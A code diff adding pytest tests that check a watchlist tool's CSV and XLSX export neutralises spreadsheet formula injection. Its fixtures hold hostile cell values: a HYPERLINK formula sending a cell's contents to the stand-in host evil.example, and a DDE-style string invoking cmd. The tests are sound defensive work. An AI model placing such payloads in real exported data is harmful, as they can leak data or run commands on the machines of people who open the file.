@@ -118,3 +118,81 @@ def test_xlsx_import_validates_like_csv(tmp_path: Path) -> None:
     path = tmp_path / "wl.xlsx"
     write_watchlist(rows, path)
     assert read_watchlist(path) == rows
+
+
+# -- issue 8: inert content and hostile cells ----------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open details")'
+
+
+def _sheet_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+
+
+def _hostile_rows() -> list:
+    from alertbot.watchlist import WatchlistRow
+
+    return [
+        WatchlistRow(
+            id="squat",
+            name_zh=FORMULA,
+            name_en="@SUM(1+1)*cmd|' /C calc'!A0",
+            marks=("-2+3", "'quoted", "''twice", "#N/A"),
+            contact=("+86 24 1234 5678", "'=already quoted"),
+        )
+    ]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_like_text_round_trips_losslessly(tmp_path: Path, suffix: str) -> None:
+    rows = _hostile_rows()
+    path = tmp_path / f"export{suffix}"
+    write_watchlist(rows, path)
+    assert read_watchlist(path) == rows
+
+
+def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    path = tmp_path / "export.xlsx"
+    write_watchlist(_hostile_rows(), path)
+    xml = _sheet_xml(path)
+    assert "<f>" not in xml
+    assert "<f " not in xml
+    assert 't="e"' not in xml
+    sheet = load_workbook(path).worksheets[0]  # not data_only: a formula would come back as one
+    name = sheet.cell(row=2, column=2)
+    assert (name.value, name.data_type) == (FORMULA, "s")
+    assert name.quotePrefix is True
+    assert all(c.data_type == "s" for c in sheet[2] if c.value is not None)
+
+
+def test_csv_export_neutralises_formula_characters(tmp_path: Path) -> None:
+    import csv
+
+    path = tmp_path / "export.csv"
+    write_watchlist(_hostile_rows(), path)
+    with path.open(encoding="utf-8", newline="") as handle:
+        [_header, row] = list(csv.reader(handle))
+    assert row[1] == "'" + FORMULA
+    assert row[2].startswith("'@")
+    assert row[3].split("|")[0] == "'-2+3"
+    assert not any(field.startswith(("=", "+", "-", "@")) for field in row)
+
+
+def test_watchlist_export_cli_to_xlsx_keeps_a_formula_name_as_text(settings, tmp_path: Path) -> None:
+    source = tmp_path / "in.csv"
+    write_watchlist(_hostile_rows(), source)
+    assert _import(source).exit_code == 0
+    out = tmp_path / "out.xlsx"
+    result = runner.invoke(app, ["watchlist", "export", str(out)])
+    assert result.exit_code == 0, result.output
+    assert "<f>" not in _sheet_xml(out)
+    assert _import(out).exit_code == 0
+    with db.session_factory(settings)() as session:
+        entry = session.get(Enterprise, "squat")
+        assert entry is not None
+        assert entry.name_zh == FORMULA
